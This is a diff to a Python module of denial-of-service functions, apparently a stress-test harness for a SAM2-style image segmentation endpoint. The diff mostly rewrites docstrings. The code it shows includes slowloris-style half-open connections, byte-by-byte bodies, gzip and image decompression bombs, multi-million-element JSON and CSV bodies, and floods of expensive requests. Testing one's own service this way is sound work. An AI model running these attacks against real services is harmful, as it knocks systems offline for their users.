@@ -1,4 +1,4 @@
-"""Requests that try to take the endpoint down, each a function of the endpoint's address and an end."""
+"""Attacks: functions that send harmful requests to an endpoint until the attack ends."""
 
 from __future__ import annotations
 
@@ -27,31 +27,31 @@ __all__ = ["ATTACKS", "KEY", "Target"]
 
 
 def everything_unfiltered(target: Target) -> None:
-    """Every candidate of 48 x 48 points passes, with logits."""
+    """Segment everything with a grid of 48 x 48 points, without filters and with logits."""
     body = scored({**LOOSE, "points_per_side": 48, "return_logits": True})
     in_threads(4, lambda: target.post("/score", body))
 
 
 def points_in_crops(target: Target) -> None:
-    """128 points a side in 85 crops."""
+    """Segment everything with a grid of 128 x 128 points in each of 85 crops."""
     target.post("/score", scored({"points_per_side": 128, "crop_n_layers": 3}))
 
 
-def places_of_one_key(target: Target) -> None:
-    """The heaviest allowed request in more places than there are, with the largest pieces."""
+def sixteen_expensive_requests(target: Target) -> None:
+    """Send the most expensive allowed request from 16 threads at the same time."""
     body = scored({**LOOSE, "points_per_side": 128, "points_per_batch": 1024}, (256, 256))
     in_threads(16, lambda: target.post("/score", body))
 
 
 def many_boxes(target: Target) -> None:
-    """Rows of boxes, up to the limit, with logits."""
+    """Send 300 boxes in a row, and request the logits of their masks."""
     boxes = [[1, 1, 60, 60]] * 300
     body = scored({"return_logits": True, "mask_encoding": "rle"}, rows=1, input_boxes=boxes)
     in_threads(4, lambda: target.post("/score", body))
 
 
 def hang_up(target: Target) -> None:
-    """Heavy requests whose clients leave at once."""
+    """Send expensive requests, and disconnect at once."""
     body = scored({**LOOSE, "points_per_side": 128}, (256, 256))
     while not target.over:
         with contextlib.suppress(requests.RequestException):
@@ -59,7 +59,7 @@ def hang_up(target: Target) -> None:
 
 
 def dribble(target: Target) -> None:
-    """64 bodies without a key that arrive byte by byte."""
+    """Send 64 bodies without a key, byte by byte."""
 
     def send() -> None:
         while not target.over:
@@ -73,7 +73,7 @@ def dribble(target: Target) -> None:
 
 
 def half_headers(target: Target) -> None:
-    """300 connections that never end their headers."""
+    """Open 300 connections, and never complete the headers of a request."""
     connections: list[socket.socket] = []
     while not target.over:
         for _ in range(20):
@@ -89,7 +89,7 @@ def half_headers(target: Target) -> None:
 
 
 def lists_as_text(target: Target) -> None:
-    """Millions of lists as plain text, as another JSON type, and in the text of a cell."""
+    """Send millions of lists as plain text, as JSON with two content types, and in the JSON text of a cell."""
     lists = b'{"input_data": [' + b"[]," * 3_000_000 + b"[]]}"
     cell = json.dumps({"input_data": [{"image": "x", "input_points": "[" + "[]," * 3_000_000 + "[]]"}]}).encode()
     while not target.over:
@@ -100,14 +100,14 @@ def lists_as_text(target: Target) -> None:
 
 
 def lists_without_a_key(target: Target) -> None:
-    """60 MB of lists from a client without a key."""
+    """Send 60 MB of lists without a valid key."""
     body = b'{"api_key": "wrong", "input_data": [' + b"[]," * 20_000_000 + b"[]]}"
     while not target.over:
         once(target, "/sam2/segment_image", body, key="")
 
 
 def small_parquet(target: Target) -> None:
-    """A few kilobytes of Parquet that stand for gigabytes."""
+    """Send a few kilobytes of Parquet that expand to gigabytes."""
     buffer = io.BytesIO()
     text = "[" + "[1,2]," * 200_000 + "[1,2]]"
     table = pa.table({"image": ["x"] * 200, "input_points": [text] * 200})
@@ -116,7 +116,7 @@ def small_parquet(target: Target) -> None:
 
 
 def wide_and_long_tables(target: Target) -> None:
-    """CSV of 300,000 columns and of two million rows; JSON tables likewise."""
+    """Send CSV tables of 300,000 columns and of two million rows, and JSON tables with many rows."""
     wide = ",".join(["image", *(f"c{i}" for i in range(300_000))]).encode() + b"\n"
     long = b"image\n" + b"x\n" * 2_000_000
     inputs = json.dumps({"inputs": {"image": ["x"] * 1_000_000}}).encode()
@@ -129,7 +129,7 @@ def wide_and_long_tables(target: Target) -> None:
 
 
 def large_mask_input(target: Target) -> None:
-    """One mask input of a wrong size for a thousand prompts."""
+    """Send a mask input of a wrong size with a thousand prompts."""
     points = [{"points": [{"x": 1, "y": 1, "positive": True}]}] * 1000
     image = {"type": "base64", "value": pictures.to_text(pictures.disc()[0])}
     body: dict[str, Any] = {"image": image, "prompts": points, "mask_input": [[0.5] * 1000] * 1000}
@@ -137,7 +137,7 @@ def large_mask_input(target: Target) -> None:
 
 
 def unread_answers(target: Target) -> None:
-    """Clients that ask for large answers and never read them."""
+    """Request large responses, and never read them."""
     body = scored({"return_logits": True}, rows=1, input_boxes=[[1, 1, 60, 60]] * 60)
     head = f"POST /score HTTP/1.1\r\nHost: x\r\nX-API-Key: {KEY}\r\nContent-Type: application/json\r\n"
     connections = []
@@ -153,7 +153,7 @@ def unread_answers(target: Target) -> None:
 
 
 def bombs(target: Target) -> None:
-    """Pictures whose files are small and whose pixels, or tiles, are many."""
+    """Send small image files that have many pixels or large tiles."""
     files = [pictures.to_bytes(Image.new("L", (12_000, 12_000)), "PNG"), tiled_tiff(12_000), tiled_tiff(2_100)]
     files += [pictures.to_bytes(Image.new("L", (9_900, 9_900)), kind) for kind in ("PNG", "GIF", "WEBP", "JPEG")]
     files.append(b"P3\n1000 700\n255\n" + b"255 255 255 " * 700_000)
@@ -174,7 +174,7 @@ def tiled_tiff(side: int) -> bytes:
 
 
 def forms(target: Target) -> None:
-    """Forms of thousands of parts, and of large ones."""
+    """Send forms with thousands of parts, and forms with a large part."""
     part = b'--x\r\nContent-Disposition: form-data; name="f%d"\r\n\r\nv\r\n'
     many = b"".join(part % i for i in range(100_000)) + b"--x--\r\n"
     head = b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
@@ -185,14 +185,14 @@ def forms(target: Target) -> None:
 
 
 def gzip_bombs(target: Target) -> None:
-    """A quarter of a gigabyte in a quarter of a megabyte."""
+    """Send a compressed body of a quarter of a megabyte that expands to a quarter of a gigabyte."""
     packed = gzip.compress(bytes(2**28), 6)
     while not target.over:
         once(target, "/score", packed, content_encoding="gzip")
 
 
 def many_names(target: Target) -> None:
-    """Every request names another image, so that names and embeddings pile up."""
+    """Send a new image with a new name in every request, so that names and embeddings accumulate."""
     number = 0
     while not target.over:
         number += 1
@@ -202,7 +202,7 @@ def many_names(target: Target) -> None:
 
 
 def noise_polygons(target: Target) -> None:
-    """Polygons of noise, which have millions of corners."""
+    """Request the masks of a noisy image as polygons, which have millions of corners."""
     body = scored({**LOOSE, "mask_encoding": "polygon", "points_per_side": 4}, (3000, 3000))
     target.post("/score", body)
 
@@ -210,7 +210,7 @@ def noise_polygons(target: Target) -> None:
 ATTACKS: tuple[Callable[[Target], None], ...] = (
     everything_unfiltered,
     points_in_crops,
-    places_of_one_key,
+    sixteen_expensive_requests,
     many_boxes,
     hang_up,
     dribble,
